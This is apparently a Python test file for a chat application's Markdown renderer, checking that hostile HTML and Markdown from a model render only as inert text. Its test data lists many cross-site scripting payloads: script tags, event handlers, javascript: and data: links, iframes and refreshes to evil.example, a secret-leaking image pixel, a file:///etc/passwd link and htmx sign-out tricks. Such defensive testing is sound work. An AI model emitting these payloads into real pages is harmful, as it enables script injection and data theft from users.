"""Hostile Markdown of a model: nothing of it runs, and nothing is loaded from elsewhere."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from apps.chat.markdown.renderer import render_markdown
from tests.support.markup import Markup

# Each with words of it that must still be seen: what is hostile is shown, not swallowed.
HOSTILE_HTML = {
    "<script>alert(1)</script>": "alert(1)",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>": "evil.example",
    "<img src=x onerror=alert(1)>": "onerror",
    "<svg onload=alert(1)><animate onbegin=alert(2)></svg>": "onbegin",
    "<svg><style><img src=x onerror=alert(1)></style></svg>": "onerror",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>": "mglyph",
    "<iframe src='https://evil.example'></iframe>": "iframe",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>": "srcdoc",
    "<object data=x></object><embed src=x>": "embed",
    "<form action=/accounts/sign-out/ method=post><input type=submit></form>": "sign-out",
    "<input type=image src=https://evil.example/x.png>": "evil.example",
    "<input type=checkbox disabled onfocus=alert(1)>": "onfocus",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>": "refresh",
    "<base href=https://evil.example/>": "base",
    "<link rel=stylesheet href=https://evil.example/x.css>": "stylesheet",
    "<style>* { background: url(https://evil.example) }</style>": "background",
    "<div style='background:url(https://evil.example)'>styled</div>": "styled",
    "<p onmouseover=alert(1) autofocus>over</p>": "over",
    "<hx-partial hx-target='#composer' hx-swap='delete'></hx-partial>": "hx-partial",
    "<hx-upsert hx-target='#transcript' key='data-position'><article id='message'></article></hx-upsert>": "hx-upsert",
    "<button hx-post='/accounts/sign-out/' hx-trigger='load'>press</button>": "press",
    "<a href='javascript:alert(1)'>link</a>": "link",
    "<template><script>alert(1)</script></template>": "template",
    "<!-- --><!--><img src=x onerror=alert(1)>-->": "onerror",
    "<![CDATA[<script>alert(1)</script>]]>": "alert(1)",
    "</div></article><script>alert(1)</script>": "alert(1)",
    "</code></pre><script>alert(1)</script>": "alert(1)",
}
HOSTILE_MARKDOWN = [
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt&#58;alert(1))",
    "[a](java\tscript:alert(1))",
    "[a](\x01javascript:alert(1))",
    "[a](vbscript:alert(1))",
    "[a](data:text/html,<script>alert(1)</script>)",
    "[a](data:image/svg+xml,<svg onload=alert(1)>)",
    "[a](data:image/png;base64,AAAA)",
    "[a](file:///etc/passwd)",
    "[a](x 'title\" onmouseover=\"alert(1)')",
    '[a](https://site.example/" onmouseover="alert(1))',
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![a](javascript:alert(1))",
    "![a](data:image/png;base64,AAAA)",
    "![a](https://evil.example/pixel.png?secret)",
    '![a" onerror="alert(1)](x)',
    "[a]: javascript:alert(1)\n\n[a]",
    '```"><script>alert(1)</script>\nx\n```',
    "```python onclick=alert(1)\n</code></pre><script>alert(1)</script>\n```",
    "| <script>alert(1)</script> |\n|:--\"onclick='x'|\n| [a](javascript:1) |",
    "# <svg onload=alert(1)>",
    "- [x] <input type=submit formaction=javascript:alert(1)>",
    '- [" onclick="alert(1)] x',
    "`<script>alert(1)</script>`",
]


def test_the_search_for_dangers_finds_them() -> None:
    """Otherwise the tests below would prove nothing."""
    for hostile in HOSTILE_HTML:
        if not hostile.startswith("<!"):  # only a browser would fall for those
            assert Markup(hostile).dangers != [], hostile


@pytest.mark.parametrize("hostile", HOSTILE_HTML)
@pytest.mark.parametrize(
    "frame", ["{}", "- {}", "> {}", "# {}", "a **{}** b", "```\n{}\n```", "| {} |\n|---|\n", "\n\n{}\n\n"]
)
def test_html_of_a_model_is_only_text(hostile: str, frame: str) -> None:
    shown = Markup(render_markdown(frame.format(hostile)))
    assert shown.dangers == []
    assert HOSTILE_HTML[hostile] in shown.text


@pytest.mark.parametrize("hostile", HOSTILE_MARKDOWN)
def test_markdown_of_a_model_is_harmless(hostile: str) -> None:
    shown = Markup(render_markdown(hostile))
    assert shown.dangers == []
    assert shown.text.strip() != ""


@given(st.lists(st.sampled_from([*HOSTILE_HTML, *HOSTILE_MARKDOWN, "\n", "\n\n", "`", "*", "> ", "- ", "|", "```"])))
def test_hostile_pieces_are_harmless_together(pieces: list[str]) -> None:
    assert Markup(render_markdown("".join(pieces))).dangers == []


@pytest.mark.parametrize("character", [">", "> ", "- ", "[", "![", "*a **b ", "`", "<", "(", "_", "|", "&", "\\", "#"])
def test_ten_thousand_of_anything_are_rendered(character: str) -> None:
    assert Markup(render_markdown(character * 10_000 + "\nend")).dangers == []


@pytest.mark.parametrize("depth", [9, 10, 11, 19, 20, 21, 39, 40, 41, 200])
@pytest.mark.parametrize("marks", ["> ", "- ", "1. ", "> - ", "- > 1) "])
def test_nothing_is_lost_however_deep_it_stands(marks: str, depth: int) -> None:
    shown = Markup(render_markdown(f"{marks * depth}words\n\nAnd the end."))
    assert "words" in shown.text
    assert "And the end." in shown.text


def test_every_item_of_a_deep_list_is_there() -> None:
    items = [f"{'  ' * depth}- item {depth}." for depth in range(60)]
    shown = Markup(render_markdown("\n".join(items)))
    assert [f"item {depth}." in shown.text for depth in range(60)] == [True] * 60
    assert shown.tags.count("ul") == 20


def test_private_use_characters_are_only_text() -> None:
    """The streaming renderer marks a place with one of them while it works."""
    assert render_markdown("a\ue000b") == "<p>a\ue000b</p>\n"


def test_no_partial_of_htmx_can_be_written_in_an_attribute() -> None:
    """htmx looks for them in the text of an answer, quoted or not."""
    for text in ('[a](https://x.example "<hx-partial x=")', "[a](<https://x.example/<hx-a >)", "``` <hx-a >\nx\n```"):
        assert "<hx-" not in render_markdown(text)


def test_nul_is_replaced() -> None:
    assert render_markdown("a\0b") == "<p>a\ufffdb</p>\n"
